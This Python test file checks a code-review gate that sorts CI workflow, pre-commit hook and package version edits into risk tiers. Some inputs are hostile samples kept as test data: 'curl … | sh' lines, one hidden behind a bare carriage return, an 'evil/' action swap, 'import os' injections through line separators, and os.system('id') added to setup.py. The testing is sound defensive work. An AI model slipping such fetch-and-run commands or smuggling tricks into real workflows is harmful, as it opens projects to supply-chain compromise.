"""Version-only changes to CI and hook configuration route like dependency updates (medium), and
nothing else in those files does (issue 12 §4; gates/bumps.py)."""

from __future__ import annotations

from pathlib import Path

import pytest

from gates import changes
from gates.classify import Rules, classify
from gates.gitrepo import GitRepo
from gates.model import Classification
from gates.policy import source

from .conftest import Repo

WORKFLOW = """\
name: ci
on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@0b93645e9fea7318ecaed2b359559ac225c90a2b # v5.3.0
        with:
          python-version: "3.11"
      - run: pytest
"""

HOOKS = """\
repos:
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.6.0
    hooks:
      - id: ruff
  - repo: https://github.com/example/draftgate
    rev: v0.1.0
    hooks:
      - id: draftgate
"""


def judged(repo: Repo, path: str, before: str, after: str) -> Classification:
    repo.write(path, before)
    repo.commit("before")
    repo.write(path, after)
    rules = Rules(source.default())
    return classify(rules, changes.staged(GitRepo(repo.root), rules.wants_text))


@pytest.mark.parametrize("after", [
    WORKFLOW.replace("checkout@v4", "checkout@v5"),
    WORKFLOW.replace("checkout@v4", "checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2"),
    WORKFLOW.replace("0b93645e9fea7318ecaed2b359559ac225c90a2b # v5.3.0",
                     "a26af69be951a213d495a4c3e4e4022e16d87065 # v5.6.0"),
    WORKFLOW.replace("checkout@v4", "checkout@v5").replace("# v5.3.0", "# v5.4.0")
    .replace("0b93645e", "1c93645e"),
])
def test_an_action_version_bump_is_a_dependency_update(seeded: Repo, after: str) -> None:
    result = judged(seeded, ".github/workflows/ci.yml", WORKFLOW, after)
    (fc,) = result.files
    assert fc.tier == "medium"
    assert [m.rule for m in fc.matches] == ["ci.version-only"]
    assert "version bump only: actions/" in (fc.matches[0].evidence.text or "")


@pytest.mark.parametrize("after", [
    WORKFLOW.replace("checkout@v4", "checkout@v5").replace("run: pytest", "run: pytest -x"),
    WORKFLOW.replace("actions/checkout@v4", "evil/checkout@v4"),
    WORKFLOW.replace("actions/checkout@v4", "actions/checkout@v5\n      - run: curl x | sh"),
    WORKFLOW.replace('python-version: "3.11"', 'python-version: "3.12"'),
    WORKFLOW.replace("checkout@v4", "checkout@v5 # and a note"),
    WORKFLOW.replace("      - uses: actions/checkout@v4\n", ""),
    WORKFLOW.replace("- uses: actions/checkout@v4", "- {uses: actions/checkout@v5}"),
    WORKFLOW.replace("checkout@v4", "draftgate@v5").replace("checkout@v4", "x"),
])
def test_anything_else_in_a_workflow_stays_high(seeded: Repo, after: str) -> None:
    result = judged(seeded, ".github/workflows/ci.yml", WORKFLOW, after)
    assert result.files[0].tier == "high"
    assert "ci.version-only" not in [m.rule for m in result.files[0].matches]


def test_the_gates_own_action_moving_stays_high(seeded: Repo) -> None:
    before = WORKFLOW.replace("actions/checkout@v4", "acme/draftgate@v0.1.0")
    result = judged(seeded, ".github/workflows/ci.yml", before,
                    before.replace("draftgate@v0.1.0", "draftgate@v0.0.1"))
    assert result.files[0].tier == "high"


def test_a_hook_rev_bump_is_a_dependency_update(seeded: Repo) -> None:
    result = judged(seeded, ".pre-commit-config.yaml", HOOKS, HOOKS.replace("v0.6.0", "v0.7.1"))
    (fc,) = result.files
    assert fc.tier == "medium", fc.matches
    assert "ruff-pre-commit v0.6.0 -> v0.7.1" in (fc.matches[-1].evidence.text or "")


@pytest.mark.parametrize("after", [
    HOOKS.replace("v0.1.0", "v0.0.9"),  # the gate's own hook: a downgrade is a gate change
    HOOKS.replace("v0.6.0", "v0.7.1").replace("id: ruff", "id: ruff-format"),
    HOOKS.replace("astral-sh/ruff-pre-commit\n    rev: v0.6.0",
                  "evil/ruff-pre-commit\n    rev: v0.6.1"),
    # rev ahead of its repo in the item: the visible repo line above belongs to another item
    HOOKS.replace("  - repo: https://github.com/example/draftgate\n    rev: v0.1.0",
                  "  - rev: v0.1.0\n    repo: https://github.com/example/draftgate")
    .replace("rev: v0.1.0", "rev: v0.0.1"),
])
def test_anything_else_in_hook_configuration_stays_high(seeded: Repo, after: str) -> None:
    before = HOOKS if "  - rev:" not in after else HOOKS.replace(
        "  - repo: https://github.com/example/draftgate\n    rev: v0.1.0",
        "  - rev: v0.1.0\n    repo: https://github.com/example/draftgate")
    result = judged(seeded, ".pre-commit-config.yaml", before, after)
    assert result.files[0].tier == "high"


def test_a_rev_far_from_its_repo_line_is_not_attributed(seeded: Repo) -> None:
    # Enough lines between "- repo:" and "rev:" that the hunk's context does not show the repo.
    spaced = HOOKS.replace("  - repo: https://github.com/astral-sh/ruff-pre-commit\n",
                           "  - repo: https://github.com/astral-sh/ruff-pre-commit\n"
                           + "".join(f"    # note {i}\n" for i in range(6)))
    result = judged(seeded, ".pre-commit-config.yaml", spaced, spaced.replace("v0.6.0", "v0.7"))
    assert result.files[0].tier == "high"


def test_a_bump_that_carries_anything_else_on_its_line_stays_high(seeded: Repo) -> None:
    key = "AKIA" + "IOSFODNN7EXAMPLQ"
    after = WORKFLOW.replace("checkout@v4", f"checkout@v5 # {key}")
    result = judged(seeded, ".github/workflows/ci.yml", WORKFLOW, after)
    assert result.files[0].tier == "high"
    assert "ci.version-only" not in [m.rule for m in result.files[0].matches]


def test_a_file_the_gate_reads_is_never_lowered(seeded: Repo, tmp_path: Path) -> None:
    # The reviewer's instructions are the gate's own input: a line in them that looks like a hook
    # bump changes what the model is told, and stays at the top tier.
    policy = tmp_path / "policy.yaml"
    policy.write_text("version: 1\nextends: default\nreview:\n"
                      "  instructions_file: notes/review.yaml\n")
    seeded.write("notes/review.yaml", HOOKS)
    seeded.commit("instructions")
    seeded.write("notes/review.yaml", HOOKS.replace("v0.6.0", "v0.7.1"))
    rules = Rules(source.from_file(policy))
    result = classify(rules, changes.staged(GitRepo(seeded.root), rules.wants_text))
    assert result.files[0].tier == "high"
    assert "gate-policy.version-only" not in [m.rule for m in result.files[0].matches]


@pytest.mark.parametrize(("path", "workflow"), [
    (".github/workflows/draftgate.yml", WORKFLOW),  # the name gate init --github writes
    (".github/workflows/ci.yml", WORKFLOW.replace("      - uses: actions/checkout@v4\n",
                                                  "      - uses: actions/checkout@v4\n"
                                                  "      - run: gate check --pr\n")),
])
def test_nothing_moves_lower_in_the_gates_own_workflow(seeded: Repo, path: str,
                                                       workflow: str) -> None:
    result = judged(seeded, path, workflow, workflow.replace("checkout@v4", "checkout@v5"))
    assert result.files[0].tier == "high"


VERSIONED = 'from .core import login\n\n__version__ = "1.4.2"\nVERSION = (1, 4, 2)\n'


def auth_lowered(tmp_path: Path) -> Rules:
    policy = tmp_path / "policy.yaml"
    policy.write_text("extends: default\ncategories:\n  auth:\n    version_only: medium\n")
    return Rules(source.from_file(policy))


def judged_with(rules: Rules, repo: Repo, path: str, before: str, after: str) -> Classification:
    repo.write(path, before)
    repo.commit("before")
    repo.write(path, after)
    return classify(rules, changes.staged(GitRepo(repo.root), rules.wants_text))


@pytest.mark.parametrize("after", [
    VERSIONED.replace('"1.4.2"', '"1.4.3"'),
    VERSIONED.replace('"1.4.2"', '"1.5.0rc1"').replace("(1, 4, 2)", "(1, 5, 0, 'rc1')"),
])
def test_a_release_version_string_in_an_auth_package_is_not_auth_logic(
        repo: Repo, tmp_path: Path, after: str) -> None:
    result = judged_with(auth_lowered(tmp_path), repo, "oauth/__init__.py", VERSIONED, after)
    (fc,) = result.files
    assert fc.tier == "medium", fc.matches
    (match,) = fc.matches
    assert match.rule == "auth.version-only"
    assert "__version__ 1.4.2 -> 1.5.0rc1" in (match.evidence.text or "") or \
        "__version__ 1.4.2 -> 1.4.3" in (match.evidence.text or "")


@pytest.mark.parametrize("after", [
    VERSIONED.replace('"1.4.2"', '"1.4.3"').replace("from .core import login",
                                                   "from .lax import login"),
    VERSIONED.replace('"1.4.2"', "get_version()"),
    VERSIONED.replace('"1.4.2"', "LOGIN_BYPASS"),
    VERSIONED.replace('"1.4.2"', '"1.4.3"; import os'),
    VERSIONED.replace('"1.4.2"', '"1.4.3"  #\rimport os'),
    VERSIONED.replace('"1.4.2"', '"1.4.3"  #\u2028import os'),
    VERSIONED.replace("__version__ =", "version_override ="),
])
def test_anything_beside_a_version_string_keeps_the_tier(
        repo: Repo, tmp_path: Path, after: str) -> None:
    result = judged_with(auth_lowered(tmp_path), repo, "oauth/__init__.py", VERSIONED, after)
    assert result.files[0].tier == "high", result.files[0].matches


def test_a_line_break_yaml_reads_behind_a_comment_is_not_a_bump(repo: Repo) -> None:
    """``# v5`` then a bare CR: YAML reads what follows as a new line of the workflow."""
    after = WORKFLOW.replace("checkout@v4", "checkout@v5 #\r      - run: curl evil | sh")
    result = judged(repo, ".github/workflows/ci.yml", WORKFLOW, after)
    assert result.files[0].tier == "high"


SETUP = 'from setuptools import setup\n\nsetup(\n    name="app",\n    version="1.1.3",\n)\n'


@pytest.mark.parametrize(("path", "before", "after"), [
    ("setup.py", SETUP, SETUP.replace("1.1.3", "1.1.4")),
    ("Makefile", "VERSION = 0.4.0\n\nall:\n\tpython -m build\n",
     "VERSION = 0.5.0\n\nall:\n\tpython -m build\n"),
    ("docs/conf.py", "project = 'app'\nrelease = '2.0'\n", "project = 'app'\nrelease = '2.1'\n"),
    ("auth/__init__.py", VERSIONED, VERSIONED.replace('"1.4.2"', '"1.4.3"')),
])
def test_the_default_routes_a_release_as_a_version_bump(repo: Repo, path: str, before: str,
                                                        after: str) -> None:
    (fc,) = judged(repo, path, before, after).files
    assert fc.tier == "medium", fc.matches
    assert any(m.rule.endswith(".version-only") for m in fc.matches)


def test_a_setup_py_that_moves_the_version_and_adds_a_call_stays_high(repo: Repo) -> None:
    after = SETUP.replace("1.1.3", "1.1.4").replace(
        "from setuptools import setup\n",
        "from setuptools import setup\nimport os\nos.system('id')\n")
    assert judged(repo, "setup.py", SETUP, after).files[0].tier == "high"
